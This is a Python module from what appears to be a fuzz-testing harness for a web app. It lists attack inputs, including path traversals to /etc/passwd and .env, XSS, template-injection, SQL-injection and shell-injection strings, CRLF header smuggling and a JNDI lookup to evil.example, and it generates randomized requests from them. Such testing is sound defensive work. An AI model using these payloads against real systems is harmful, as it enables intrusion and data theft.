"""The words of the grammar: what an attacker writes where a name, a number, a place or a line belongs."""

from __future__ import annotations

from random import Random
from urllib.parse import quote, quote_from_bytes

EVIL = "evil.example"
SCRIPT = "<script>alert(7)</script>"  # must never come back as it is in a page
SUM = "51724863"  # 7193 * 7191, if a template reckoned
PLANTED = "x-planted"  # must never come back as a header

TRAVERSALS = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/.env",
    "....//....//.env",
    "..%5c..%5cpaiqi.db",
    "..%c0%af..%c0%afetc/passwd",
    "%252e%252e%252f.env",
    "/etc/passwd",
    "file:///etc/passwd",
    ".git/config",
    "main.js%00.png",
    "C:\\windows\\win.ini",
)
NUMBERS = (
    "-1",
    "0",
    "00",
    "9" * 10,
    "9" * 19,
    "9" * 39,
    "1" * 5_000,
    "9223372036854775808",
    "2147483648",
    "-9223372036854775809",
    "1e9",
    "0x10",
    "NaN",
    "٣",
    "１２",
    "²",
    "1.5",
    "+1",
    "1 OR 1=1",
    "",
)
WORDS = (
    SCRIPT,
    f'"><img src=x onerror=alert(7)>{SCRIPT}',
    f"</textarea>{SCRIPT}",
    "javascript:alert(7)",
    "{{ 7193 * 7191 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7193*7191}",
    "#{7193*7191}",
    "<%= 7193*7191 %>",
    "'; DROP TABLE person; --",
    "' OR '1'='1",
    '" UNION SELECT hash FROM sign_in --',
    "1); DELETE FROM local_message; --",
    "%27%20OR%201=1",
    "$(touch /tmp/owned)",
    "`id`",
    "| cat /etc/passwd",
    "=cmd|' /C calc'!A0",
    "\0",
    "a\0b",
    "\x1b[2J\x1b[31mroot",
    "a\r\nX-Planted: yes\r\n\r\n<b>",
    "\u202egnp.exe",
    "\u2028\u2029",
    "\ufeff\u200b",
    "\ufffe\uffff",
    "Z̡̖̜͖̰̣͉̜a̖̰͙̗" * 30,
    "龘" * 5_000,
    "A" * 30_000,
    "%s%s%s%n",
    "__proto__",
    "constructor",
    "../../../etc/passwd",
    "()&%<acx><ScRiPt >alert(7)</ScRiPt>",
    "${jndi:ldap://evil.example/a}",
)
BYTES = (b"\xff\xfe\x00", b"\x80\x81", b"\xed\xa0\x80", b"\xc0\xaf", b"\xf8\x88\x80\x80\x80", b"\xe9\x80")
METHODS = ("PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND", "MKCOL", "MOVE", "PURGE", "LINK")
ORIGINS = (
    f"http://{EVIL}",
    "null",
    "",
    "http://localhost.evil.example",
    "https://127.0.0.1",
    "http://127.0.0.1:1",
    "http://127.0.0.1@evil.example",
    "file://",
    "http://[::1",
    "*",
)
HOSTS = (
    EVIL,
    "127.0.0.1.evil.example",
    "localhost.evil.example:8000",
    "evil.example:80@127.0.0.1",
    "127.0.0.1@evil.example",
    "127.1",
    "2130706433",
    "0x7f.1",
    "[::1",
    "a" * 2_000,
    "localhost evil.example",
    "localhost/evil.example",
    "localhost#evil.example",
    "",
)
PATHS = (
    "/",
    "/direct",
    "/room/选题",
    "/history",
    "/thread/1",
    "/commands",
    "/understood",
    "/file/1",
    "/file/1/a.png",
    "/stream",
    "/static/main.js",
    "/wechat/1",
    "/console",
    "/console/",
    "/console/import",
    "/console/month",
    "/console/month/2026-03",
    "/console/settings",
    "/console/say",
    "/console/static/console.css",
    "/enter/x",
    "/healthz",
    "/readyz",
    "/metrics",
)
POSTS = (
    "/wechat/1",
    "/say",
    "/read",
    "/dismiss",
    "/as",
    "/clock",
    "/console/import",
    "/console/settings",
    "/console/say",
    "/console/begin",
    "/console/leave",
)
FIELDS = (
    "as",
    "event",
    "line",
    "place",
    "thread",
    "typed",
    "id",
    "name",
    "back",
    "to",
    "word",
    "form",
    "values",
)


def word(drawn: Random) -> str:
    """Some word nobody honest writes, now and then two of them."""
    return "".join(drawn.choices(WORDS, k=drawn.choice((1, 1, 1, 2))))


def in_path(drawn: Random) -> str:
    """A part of a path, written in one of the ways that paths can be."""
    return drawn.choice(
        (
            drawn.choice(TRAVERSALS),
            drawn.choice(TRAVERSALS),
            quote(drawn.choice(NUMBERS), safe=""),
            quote(word(drawn)[:8_000], safe=""),
            quote_from_bytes(drawn.choice(BYTES)),
            "%",
            "%zz",
            "%00",
            "%0d%0aX-Planted:%20yes",
            ";a=b",
            "//" + EVIL,
            "\\\\" + EVIL,
        )
    )


def query(drawn: Random) -> str:
    """A query of known and unknown names, some of them twice."""
    names = (*FIELDS, "before", "since", "thread", "language", "text", "window", "constructor", "a[]")
    pairs = [
        (drawn.choice(names), drawn.choice((drawn.choice(NUMBERS), word(drawn)[:2_000])))
        for _ in range(drawn.randrange(5))
    ]
    return "&".join(f"{name}={quote(value, safe='')}" for name, value in pairs)
